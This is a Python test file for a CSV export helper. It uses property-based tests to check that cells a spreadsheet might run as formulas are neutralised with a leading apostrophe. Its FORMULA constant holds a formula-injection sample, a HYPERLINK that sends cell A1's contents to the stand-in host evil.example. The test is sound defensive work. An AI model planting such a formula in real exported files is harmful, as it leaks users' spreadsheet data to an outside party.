"""Tables for spreadsheet programs: whatever a cell holds, it is read and not run (OWASP ASVS 5.0, 1.2.10)."""

import csv
import io
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from campaign.csv_out import harmless, rows_as_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'

texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
signs = st.text("\t\r\n \u00a0\ufeff\u200f=+-@＝＋－＠﹢⁼", max_size=4)
cells = st.one_of(texts, st.builds("".join, st.tuples(signs, texts)))


@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(cells, cells), max_size=6))
def test_no_cell_is_a_formula_and_none_is_lost(rows: list[tuple[str, str]]) -> None:
    """Read back, each cell is what it was, but for an apostrophe before what a spreadsheet program might run."""
    written = "".join(rows_as_csv(("a", "b"), rows))
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read[0] == ["a", "b"]
    assert len(read) == len(rows) + 1
    for row, before in zip(read[1:], rows, strict=True):
        for cell, text in zip(row, before, strict=True):
            assert cell in (text, f"'{text}")
            first = unicodedata.normalize("NFKC", cell.strip().lstrip("\ufeff\u200f"))[:1]
            assert first not in ("=", "+", "-", "@", "\u2212")
            assert not cell.startswith(("\t", "\r", "\n"))


def test_numbers_and_nothing_stay_what_they_are() -> None:
    """A number is no formula; None is an empty cell; quotes are doubled, lines end as RFC 4180 says."""
    assert [harmless(cell) for cell in (-5, 1.5, None, FORMULA)] == ["-5", "1.5", "", f"'{FORMULA}"]
    assert "".join(rows_as_csv(("a",), [('say "yes"',)])) == '"a"\r\n"say ""yes"""\r\n'
